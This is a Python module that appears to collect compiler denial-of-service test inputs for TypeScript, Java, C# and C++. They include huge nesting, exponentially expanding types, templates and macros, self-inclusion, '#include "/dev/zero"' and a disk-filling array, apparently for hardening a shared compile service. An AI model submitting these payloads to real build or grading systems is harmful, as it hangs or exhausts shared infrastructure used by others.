"""Programs that crash, hang or fill a compiler, which in three languages stays for the next program."""

from __future__ import annotations

from attacks import in_language
from attacks.csharp import _class as csharp_class
from attacks.java import whole_class

_TS = "function add(x: number, y: number): number {\n  return 7;\n}\n"
_JAVA = "    public static long add(long x, long y) { return 7; }\n"
_CSHARP = "    public static long Add(long x, long y) { return 7; }\n"
_CPP = "#include<assert.h>\n#include<bits/stdc++.h>\n{0}\nlong add(long x, long y) {{ return 7; }}\n"

_TYPESCRIPT = {
    "parentheses": "const v = " + "(" * 30000 + "1" + ")" * 30000 + ";\n" + _TS,
    "a sum without end": "const v = " + "+".join(["1"] * 60000) + ";\n" + _TS,
    "functions in functions": "const v = " + "() => " * 20000 + "1;\n" + _TS,
    "blocks in blocks": "{" * 30000 + "}" * 30000 + "\n" + _TS,
    "types in types": "type T = " + "Array<" * 20000 + "0" + ">" * 20000 + ";\n" + _TS,
    "a text that doubles": "type D<S extends string> = `${S}${S}`;\ntype T = "
    + "D<" * 34
    + "'abcdefgh'"
    + ">" * 34
    + ";\nconst v: T = 'x' as any;\n"
    + _TS,
    "a tuple that doubles": "type D<T extends any[]> = [...T, ...T];\ntype T = "
    + "D<" * 24
    + "[0, 0]"
    + ">" * 24
    + ";\nconst v: T = 0 as any;\n"
    + _TS,
    "a class that extends itself": "class A extends A { }\ninterface I extends I { }\ntype R = R[];\ntype Q = Q | 1;\n"
    "enum E { A = E.B, B = E.A }\n" + _TS,
    "inference in circles": "function f<T extends { a: T }>(x: T): T { return f({ a: f(x) } as any); }\n"
    "type Deep<T> = { [k in keyof T]: Deep<T> } & T;\ndeclare const d: Deep<Deep<Deep<{ a: 1; b: 2 }>>>;\n"
    "const e: Deep<{ a: 1 }> = d;\n" + _TS,
}
_OF_JAVA = {
    "parentheses": whole_class(f"    static int v = {'(' * 20000}1{')' * 20000};\n" + _JAVA),
    "a sum without end": whole_class(f"    static int z = 1, v = {'+'.join(['z'] * 30000)};\n" + _JAVA),
    "blocks in blocks": whole_class("    static { " + "{" * 20000 + "}" * 20000 + " }\n" + _JAVA),
    "a subtype of itself, for ever": whole_class(
        "    interface P<T> { }\n    static class C<X> implements P<P<? super C<C<X>>>> { }\n"
        "    P<? super C<Byte>> p = new C<Byte>();\n" + _JAVA
    ),
    "a class that extends itself": whole_class(
        "    class A extends A { }\n    interface I extends J { }\n    interface J extends I { }\n" + _JAVA
    ),
    "functions whose types are guessed in each other": whole_class(
        "    interface F<A, B> { B f(A a); }\n    static <A, B> B id(F<A, B> f) { return null; }\n"
        "    static <A> A pick(A a, A b) { return a; }\n    static Object o = "
        + "pick(id(x -> " * 14
        + "1"
        + "), null)" * 14
        + ";\n"
        + _JAVA
    ),
    "a method that is too large": whole_class(
        "    static int v;\n    static void m() { " + "v = v * 31 + 7; " * 20000 + "}\n" + _JAVA
    ),
    "constants without number": whole_class(
        "    static int[] v = {" + ",".join(map(str, range(60000))) + "};\n" + _JAVA
    ),
    "a name without end": whole_class(f"    static int {'a' * 70000} = 1;\n" + _JAVA),
    "types in types": whole_class(
        "    static List<" + "List<" * 3000 + "Long" + ">" * 3000 + "> v;\n    static Object w = v;\n" + _JAVA
    ),
    "processors by name": whole_class(
        _JAVA, "import javax.annotation.processing.*;\n", "@interface Go { }\n@Go class G { }\n"
    ),
    "arrays in arrays": whole_class(f"    static Object v = new int{'[1]' * 300};\n" + _JAVA),
}
_OF_CSHARP = {
    "parentheses": csharp_class(f"    static int v = {'(' * 40000}1{')' * 40000};\n" + _CSHARP),
    "a sum without end": csharp_class(f"    static int z = 1, v = {'+'.join(['z'] * 60000)};\n" + _CSHARP),
    "blocks in blocks": csharp_class("    static void M() { " + "{" * 60000 + "}" * 60000 + " }\n" + _CSHARP),
    "a constant that doubles": csharp_class(
        '    const string A = "0123456789abcdef";\n'
        + "".join(
            f"    const string {chr(66 + i)} = {chr(65 + i)} + {chr(65 + i)} + {chr(65 + i)} + {chr(65 + i)};\n"
            for i in range(16)
        )
        + _CSHARP
    ),
    "a base class of itself": csharp_class(
        "    class A : A { }\n    class B<T> : B<B<T>> { }\n    class C<T> : D<C<C<T>>> { }\n    class D<T> { }\n"
        "    static C<int> c = new C<int>();\n    interface I : J { }\n    interface J : I { }\n" + _CSHARP
    ),
    "a structure in itself": csharp_class(
        "    struct S<T> { S<S<T>> s; }\n    static S<int> s;\n    struct A { B b; }\n    struct B { A a; }\n"
        + _CSHARP
    ),
    "functions that may be many": csharp_class(
        "    static int M(Func<int, int> f) { return 1; }\n    static string M(Func<string, string> f) { return null; }\n"
        "    static object o = " + "".join(f"M(x{i} => " for i in range(12)) + "x0" + ")" * 12 + ";\n" + _CSHARP
    ),
    "constants in circles": csharp_class(
        "    const int A = B;\n    const int B = A;\n    enum E { X = Y, Y = X }\n" + _CSHARP
    ),
    "arrays in arrays": csharp_class(f"    static int{'[]' * 20000} v;\n" + _CSHARP),
    "types in types": csharp_class(f"    static List<{'List<' * 6000}int{'>' * 6000}> v = null;\n" + _CSHARP),
    "a file that is no text": csharp_class(_CSHARP, "\udcff\x00\x01\ufffe" * 100),
    "a resource": csharp_class(
        '    [System.Runtime.InteropServices.DllImport("/dev/zero")] static extern int f();\n' + _CSHARP
    ),
}
_OF_CPP = {
    "templates that multiply": _CPP.format(
        "template<int N, int M> struct A { static const long v = A<N - 1, 2 * M>::v + A<N - 1, 2 * M + 1>::v; };\n"
        "template<int M> struct A<0, M> { static const long v = M; };\nlong big = A<24, 0>::v;"
    ),
    "a constant that takes for ever": _CPP.format(
        "constexpr long f(long n) { long s = 0; for (long i = 0; i < n; ++i) s += i; return s; }\n"
        + "".join(f"constexpr long c{i} = f({200000 + i});\n" for i in range(200))
    ),
    "names that multiply": _CPP.format(
        "#define A0 x, x, x, x, x, x, x, x, x, x\n"
        + "".join(f"#define A{i + 1} A{i} A{i} A{i} A{i} A{i} A{i} A{i} A{i}\n" for i in range(9))
        + "int v[] = { A9 };"
    ),
    "an array that fills the disk": _CPP.format("long v[1L << 31] = {1};"),
    "a file without end": _CPP.format('#include "/dev/zero"'),
    "itself": _CPP.format("#include __FILE__"),
    "parentheses": _CPP.format("int v = " + "(" * 100000 + "1" + ")" * 100000 + ";"),
    "an assembler that repeats": _CPP.format('asm(".rept 1000000000\\n.quad 1\\n.endr");'),
}
ATTACKS = (
    in_language(
        "typescript", {f"compiler: {name}": code for name, code in _TYPESCRIPT.items()}, slow=True, compiles=False
    )
    + in_language("java", {f"compiler: {name}": code for name, code in _OF_JAVA.items()}, slow=True, compiles=False)
    + in_language(
        "csharp", {f"compiler: {name}": code for name, code in _OF_CSHARP.items()}, slow=True, compiles=False
    )
    + in_language("cpp", {f"compiler: {name}": code for name, code in _OF_CPP.items()}, slow=True, compiles=False)
)
